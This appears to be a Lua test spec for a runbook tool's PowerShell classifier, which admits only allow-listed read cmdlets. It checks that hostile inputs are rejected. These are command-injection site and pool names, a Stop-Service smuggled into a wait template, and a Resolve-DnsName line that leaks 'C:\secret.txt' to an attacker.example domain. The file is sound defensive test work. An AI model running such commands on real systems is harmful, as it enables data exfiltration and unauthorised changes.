-- modules/powershell/reads.lua and modules/powershell/reads_allowed.lua: every read runbook's own
-- code sends is proven (by its registered template), reads are an allow-list of cmdlets and
-- parameters with literal values, and an organization extends the list with a reason.
-- The PowerShell corner cases (separators, quotes, comments) are in
-- tests/ps_classifier_corpus_spec.lua.
local emulator = require "lab.emulator"
local powershell = require "powershell"
local reads = require "powershell.reads"
local support = require "support"
require "lab"   -- the sim transport: the lab plug-in registers it (modules/lab/init.lua)
local quote, write = support.quote, support.write

local function command_line_of(pipeline)
  return powershell.invocation(powershell.wrap(pipeline))
end

local HEAD, TAIL = powershell.wrap("\0"):match("^(.-)%z(.*)$")

-- The pipeline a command line (and stdin) sent through the cmdlet layer carries.
local function pipeline_of(command_line, stdin)
  local script
  if stdin then
    script = powershell.unbase64((stdin:gsub("[\r\n]", "")))
  else
    local encoded = command_line:match("%-EncodedCommand (%S+)$")
    script = powershell.from_utf16le(powershell.unbase64(encoded))
  end
  local framed = powershell.command_pipeline(script)   -- what the cmdlet layer sends
  if framed then return framed end
  assert.equal(HEAD, script:sub(1, #HEAD))
  assert.equal(TAIL, script:sub(-#TAIL))
  return script:sub(#HEAD + 1, #script - #TAIL)
end

-- What shipped code sends that changes things: the rest must be reads.
local CHANGES = { set = true, stop = true, start = true, invoke = true, add = true, remove = true,
                  export = true }   -- Export-CsConfiguration writes a file (issue 18)

local function is_change(pipeline)
  -- a batched change (lync's services of a server, one try per service) starts with try
  local verb = pipeline:match("^(%a+)%-") or pipeline:match("^try { (%a+)%-")
  return verb ~= nil and CHANGES[verb:lower()] == true
end

-- A runbook file that loads another and records every script the sim transport carries.
local TAP = [[
local cmdlet = require "cmdlet"
local emulator = require "lab.emulator"
local powershell = require "powershell"
require "lab"   -- the lab plug-in first: its sim transport is the one the tap replaces
cmdlet.register_transport("sim", function(host, line, options)
  io.stderr:write("SENT ", line, " ", powershell.base64(options.stdin or "-"), "\n")
  return emulator.run_command_line(line, host.state_file, options.stdin)
end)
return dofile(%q)
]]

describe("every read runbook's own code sends", function()
  local scratch, sent

  setup(function()
    scratch = support.tmpdir()
    sent = {}
  end)
  teardown(function() os.execute("rm -rf " .. quote(scratch)) end)

  local function record(line, stdin)
    local key = line .. "\0" .. (stdin or "")
    sent[key] = sent[key] or { line = line, stdin = stdin }
  end

  -- ./runbook on the embedded lab with a runbook file, recording what the tap saw.
  local function tapped(command, book, extra, lab_dir)
    local tap = write(("%s/tap-%s"):format(scratch, book:match("([^/]+)$")),
                      TAP:format(support.root .. "/" .. book))
    local r = support.sh(("cd %s && RUNBOOK_STATE_DIR=%s %s %s %s %s --set lab.state_dir=%s")
      :format(quote(scratch), quote(scratch .. "/state"), quote(support.bin), command,
              quote(tap), extra or "", quote(lab_dir)))
    assert.is_nil(r.out:match("not a read[^\n]*"), r.out)
    for line, stdin in r.err:gmatch("SENT (%S+ %S+ %S+ %S+ %S+) (%S+)") do
      record(line, stdin ~= "LQ==" and powershell.unbase64(stdin) or nil)
    end
    return r
  end

  it("in plan and run of every runbook, under every lab fault", function()
    local faults = require("lab.world").FAULTS
    local books = { "runbooks/xmpp-failover.lua", "runbooks/xmpp-failback.lua",
                    "runbooks/xmpp-dr-readiness.lua" }
    for _, fault in ipairs(faults) do
      local lab_dir = ("%s/lab-%s"):format(scratch, fault)
      os.execute("mkdir -p " .. quote(lab_dir))
      local set = "--set lab.fault=" .. fault
      for _, book in ipairs(books) do tapped("plan", book, set, lab_dir) end
      local quick = set .. " --set replication_timeout=0.3 --set service_timeout=0.3"
      tapped("run --yes --rollback auto", "runbooks/xmpp-failover.lua", quick, lab_dir)
      tapped("run --yes --rollback auto", "runbooks/xmpp-failback.lua", quick, lab_dir)
      tapped("run --yes", "runbooks/xmpp-dr-readiness.lua", set, lab_dir)
      tapped("plan", "examples/custom-failover.lua", "--set ticket=CHG-1234 --set notify_file="
             .. quote(scratch .. "/notify") .. " " .. set, lab_dir)
    end
    local count = 0
    for _ in pairs(sent) do count = count + 1 end
    -- about 40 distinct scripts; a few depend on how often a wait polls
    assert.is_true(count >= 30, "the tap saw only " .. count .. " scripts")
  end)

  it("from every builder of modules/lync.lua and modules/dns/windows.lua", function()
    local cmdlet = require "cmdlet"
    local lync = require "lync"
    local state_file = scratch .. "/builders.json"
    emulator.save_state(state_file, emulator.default_state("fe1.contoso.com"))
    cmdlet.register_transport("record", function(_, line, options)
      record(line, options.stdin)
      return emulator.run_command_line(line, state_file, options.stdin)
    end)
    local host = { name = "fe1.contoso.com", transport = "record" }
    -- Values from inventories and servers, hostile ones included: they stay literals.
    for _, site in ipairs { "Site1", "Site:Site2", "O'Brien", "a\rRemove-Item x", "\u{2019}x",
                            "\u{2028}", ("s"):rep(9000) } do
      pcall(lync.site, host, site)
      pcall(lync.federation_route, host, site)
    end
    for _, pool in ipairs { "edgepool1.contoso.com", "x'; Set-CsSite", "" } do
      pcall(lync.pool, host, pool)
      pcall(lync.edge_services, host, pool)
      pcall(lync.edge_servers_of, host, pool)
    end
    lync.sites(host); lync.pools(host); lync.edge_services(host); lync.topology(host)
    for _, computer in ipairs { "edge1.contoso.com", "192.0.2.7", "[2001:db8::1]" } do
      pcall(lync.services, host, { computer = computer, names = { "RTCSRV" } })
      pcall(lync.replication_status, host, computer)
    end
    lync.services(host); lync.replication_status(host)
    local windows = require "dns.windows"
    for _, computer in ipairs { false, "dns1.contoso.com" } do
      local p = windows.new { zone = "contoso.com", host = host, computer = computer or nil }
      for _, name in ipairs { "contoso.com", "xmpp.contoso.com",
                              "_xmpp-server._tcp.contoso.com" } do
        for _, type in ipairs { "A", "AAAA", "SRV", "CNAME", "TXT" } do pcall(p.get, name, type) end
      end
    end
  end)

  it("is proven by its template, and every change it sends is refused", function()
    for _, name in ipairs { "federation", "lync", "dns.windows", "diagnostics" } do
      require(name)   -- the modules that send reads register their templates when loaded
    end
    local read_count, change_count = 0, 0
    for _, script in pairs(sent) do
      local pipeline = pipeline_of(script.line, script.stdin)
      local ok, how = reads.verify("powershell", script.line, script.stdin)
      if is_change(pipeline) then
        change_count = change_count + 1
        assert.is_nil(ok, pipeline)
      else
        read_count = read_count + 1
        assert.is_true(ok, ("%s: %s"):format(pipeline, tostring(how)))
        assert.equal("template", how, pipeline)
      end
    end
    assert.is_true(read_count >= 60, "only " .. read_count .. " reads were sent")
    assert.is_true(change_count >= 10, "only " .. change_count .. " changes were sent")
  end)
end)

describe("the service wait on the server (lync.wait_services)", function()
  require "lync"   -- registers the wait's template
  local function proven(tail)
    local script = powershell.command("Get-Service", { Name = { "RTCSRV", "RTCMRAUTH" },
      ComputerName = "edge2a.contoso.com" }) .. tail
    return reads.verify("powershell", powershell.invocation(powershell.wrap(script)))
  end
  local WAIT = " | ForEach-Object { $_.WaitForStatus('Running', '00:01:00.000'); "
    .. "[pscustomobject]@{ Name = [string]$_.Name; Status = [string]$_.Status } }"

  it("is a read by its template, and nothing added to its shape is", function()
    assert.same({ true, "template" }, { proven(WAIT) })
    assert.is_nil(proven(WAIT:gsub("WaitForStatus%('Running'", "Stop(); $_.WaitForStatus('Running'")))
    assert.is_nil(proven(WAIT .. "; Stop-Service -Name 'RTCSRV'"))
    assert.is_nil(proven(WAIT:gsub("'00:01:00.000'", "(Stop-Service 'RTCSRV')")))
  end)
end)

describe("reads by allow-list", function()
  -- Finding 5 of issue 12 and its neighbours: read verbs that change, send, hang or prompt.
  local REFUSED = {
    { "Test-ComputerSecureChannel -Repair", "Test%-ComputerSecureChannel is not on the list" },
    { "Test-Cluster", "Test%-Cluster is not on the list" },
    { "Get-WindowsUpdateLog -LogPath 'C:\\x.log'", "Get%-WindowsUpdateLog is not on the list" },
    { "Get-ClusterLog -Destination 'C:\\x'", "Get%-ClusterLog is not on the list" },
    { "Test-CsIM -TargetFqdn 'pool.contoso.com'", "Test%-CsIM is not on the list" },
    { "Test-CsPstnOutboundCall -TargetFqdn 'p' -TargetPstnPhoneNumber '5551234'",
      "Test%-CsPstnOutboundCall is not on the list" },
    { "Test-CsPersistentChatMessage -TargetFqdn 'p'", "Test%-CsPersistentChatMessage is not" },
    { "Test-CsExUMVoiceMail -TargetFqdn 'p'", "Test%-CsExUMVoiceMail is not on the list" },
    { "Get-Certificate -Template 'WebServer'", "Get%-Certificate is not on the list" },
    { "Get-Content -Path '\\\\host\\share\\x'", "Get%-Content is not on the list" },
    { "Test-Path -Path '\\\\host\\share'", "Test%-Path is not on the list" },
    { "Get-CimInstance -ClassName 'Win32_OS' -ComputerName 'other'", "Get%-CimInstance is not" },
    { "Test-WSMan -ComputerName 'other' -Authentication 'Negotiate'", "Test%-WSMan is not" },
    { "Get-Content -Path 'C:\\x' -Wait", "Get%-Content is not on the list" },
    { "Get-Credential", "Get%-Credential is not on the list" },
    { "Resolve-DnsName -Name (-join @((Get-Content -Path 'C:\\secret.txt'), '.attacker.example'))",
      "Resolve%-DnsName is not on the list" },
    { "Test-Connection -ComputerName 'x' -Count 2147483647", "Test%-Connection is not on the" },
    -- Allowed cmdlets, with what their entries do not allow.
    { "Get-CsSite -ComputerName 'other'", "%-ComputerName of Get%-CsSite is not on the list" },
    { "Get-CsWindowsService -ComputerName '\\\\other\\x'",
      "%-ComputerName of Get%-CsWindowsService must be a host" },
    { "Get-CsWindowsService -ComputerName 'http://x'", "must be a host name" },
    { "Get-CsWindowsService -Cn 'edge1'", "%-Cn of Get%-CsWindowsService is not on the list" },
    { "Get-CsSite -Ident 'Site2'", "%-Ident of Get%-CsSite is not on the list" },
    { "Get-CsSite -Identity '\\\\host\\share'", "names no other host" },
    { "Get-CsSite -Identity '//host/share'", "names no other host" },
    { "Get-CsSite -Identity 'file://host/x'", "names no other host" },
    { "Get-CsSite -Identity (Get-CsPool)", "%-Identity of Get%-CsSite must be a quoted string" },
    { "Get-CsSite -Identity $x", "must be a quoted string" },
    { "Get-CsSite -Identity @{a='b'}", "must be a quoted string" },
    { "Get-CsSite 'Site2'", "positional argument" },
    { "Get-CsService -EdgeServer:'yes'", "must be a switch" },
    { "Get-CsWindowsService -Name @('a', (Get-CsPool))", "a string or a list of strings" },
    { "try { Get-CsSite } catch { }", "try/catch is no part of a read" },
    { "exit (Get-CsSite)", "exit is no part of a read" },
    { "$x = -join @('a','b'); $x", "%-join is no part of a read" },
  }
  for _, case in ipairs(REFUSED) do
    it("refuses " .. case[1], function()
      local ok, why = reads.verify("powershell", command_line_of(case[1]))
      assert.is_nil(ok)
      assert.matches(case[2], why)
    end)
  end

  local PROVEN = {
    "Get-CsSite -Identity Site:Site2",
    "get-cssite -identity 'Site2' -Verbose",
    "Get-CsWindowsService -ComputerName 'edge1.contoso.com' -Name 'RTCSRV','REPLICA'",
    "Get-CsWindowsService -ComputerName '192.0.2.1' -Name @()",
    "$sites = Get-CsSite; $sites.Identity",
    "(Get-CsPool -Identity 'edgepool1.contoso.com').Computers",
    "@(Get-CsSite)",
  }
  for _, pipeline in ipairs(PROVEN) do
    it("proves " .. pipeline .. " by the list", function()
      assert.same({ true, "list" }, { reads.verify("powershell", command_line_of(pipeline)) })
    end)
  end

  it("proves a template's instance only when it is exactly what powershell.command builds",
     function()
    require "lync"
    assert.same({ true, "template" },
                { reads.verify("powershell", command_line_of("Get-CsSite -Identity 'Site2'")) })
    -- the same read written otherwise is no instance: the list still proves it
    assert.same({ true, "list" },
                { reads.verify("powershell", command_line_of("Get-CsSite  -Identity 'Site2'")) })
    assert.same({ true, "list" },
                { reads.verify("powershell", command_line_of("Get-CsSite -Identity Site2")) })
  end)

  it("takes templates only for cmdlets and parameters on the list", function()
    assert.has_error(function() reads.template { cmdlet = "Remove-Item" } end,
      "[reads] not a read template: Remove-Item is not on the list of reads "
      .. "(modules/powershell/reads_allowed.lua)")
    assert.has_error(function()
      reads.template { cmdlet = "Get-CsSite", parameters = { ComputerName = "string" } }
    end)
    assert.has_error(function()
      reads.template { cmdlet = "Get-CsWindowsService", parameters = { Name = "switch" } }
    end)
    assert.has_error(function() reads.template { script = "Set-CsSite" } end,
      "[reads] not a read template: Set-CsSite is not a Get-, Test- or Resolve- cmdlet")
  end)

  it("lets an organization add a read with its reason, never a change or a known effect",
     function()
    local line = command_line_of("Get-ClusterNode -Name 'node1'")
    local ok, why = reads.verify("powershell", line)
    assert.is_nil(ok)
    assert.matches("Get%-ClusterNode is not on the list", why)
    local entry = { reason = "the quorum step lists the cluster's nodes",
                    parameters = { Name = "text" } }
    local allowed, message = pcall(reads.allow, "Get-ClusterNode", entry)
    assert.is_false(allowed)
    assert.matches("cannot allow Get%-ClusterNode from inside a function", message)
    assert(load("local reads, entry = ...; reads.allow('Get-ClusterNode', entry)", "=runbook"))(
      reads, entry)   -- the top level of a file
    assert.same({ true, "list" }, { reads.verify("powershell", line) })
    assert.is_nil(reads.verify("powershell", command_line_of("Get-ClusterNode -Cluster 'c'")))
    for _, case in ipairs {
      { "Remove-Item", { reason = "it only reads, promise" }, "is not a Get%-, Test%- or" },
      { "Get-Credential", { reason = "we need a password" }, "is never a read: it prompts" },
      { "Test-CsIM", { reason = "a quick IM test" }, "is never a read: it signs test users in" },
      { "Get-Thing", {}, "give the reason it only reads" },
      { "Get-Thing", { reason = "reads a thing", parameters = { Path = "path" } },
        "%-Path: path is no kind of value" },
      { "Get-Thing'x'", { reason = "reads a thing" }, "is not a cmdlet name" },
    } do
      local refused, reason = pcall(reads.allow, case[1], case[2])
      assert.is_false(refused)
      assert.matches("%[reads%] cannot allow .*" .. case[3], reason)
    end
  end)
end)

describe("an organization's read in a runbook", function()
  local BOOK = [[
local reads = require "powershell.reads"
local cmdlet = require "cmdlet"
require "lab"   -- the sim transport of the host below
reads.allow("Get-CsUser", { reason = "the users step counts the users homed on the pool",
                            parameters = { Identity = "text" } })
local host = { name = "fe1", transport = "sim", state_file = %q }
return require("runbook").define {
  id = "org-read", title = { en = "Org read" },
  steps = {
    { id = "users", title = { en = "Users" },
      check = function()
        local ok, err = pcall(cmdlet.evaluate, host, "Get-CsUser -Identity 'x'")
        print("EVALUATE", ok, err)
        print("ALLOW", pcall(reads.allow, "Get-CsAdUser",
                             { reason = "a check that widens its own reads" }))
        return true
      end },
  },
}
]]

  it("runs under plan once the runbook file allows it, and cannot be allowed from a check",
     function()
    local dir = support.tmpdir()
    local state = dir .. "/state.json"
    emulator.save_state(state, emulator.default_state("fe1.contoso.com"))
    write(dir .. "/org.lua", BOOK:format(state))
    write(dir .. "/inventory.lua", "return {}")
    local plan = support.sh(("cd %s && RUNBOOK_STATE_DIR=%s %s plan -i inventory.lua org.lua")
      :format(quote(dir), quote(dir .. "/state"), quote(support.bin)))
    local run = support.sh(("cd %s && RUNBOOK_STATE_DIR=%s %s run --yes -i inventory.lua org.lua")
      :format(quote(dir), quote(dir .. "/state"), quote(support.bin)))
    os.execute("rm -rf " .. quote(dir))
    -- sent (the emulator has no Get-CsUser), not refused
    assert.matches("EVALUATE\tfalse\t[^\n]*The term 'Get%-CsUser' is not recognized", plan.out)
    assert.matches("EVALUATE\tfalse\t[^\n]*The term 'Get%-CsUser' is not recognized", run.out)
    for _, r in ipairs { plan, run } do
      assert.matches("ALLOW\tfalse\t[^\n]*cannot allow Get%-CsAdUser from inside a function",
                     r.out)
    end
  end)
end)
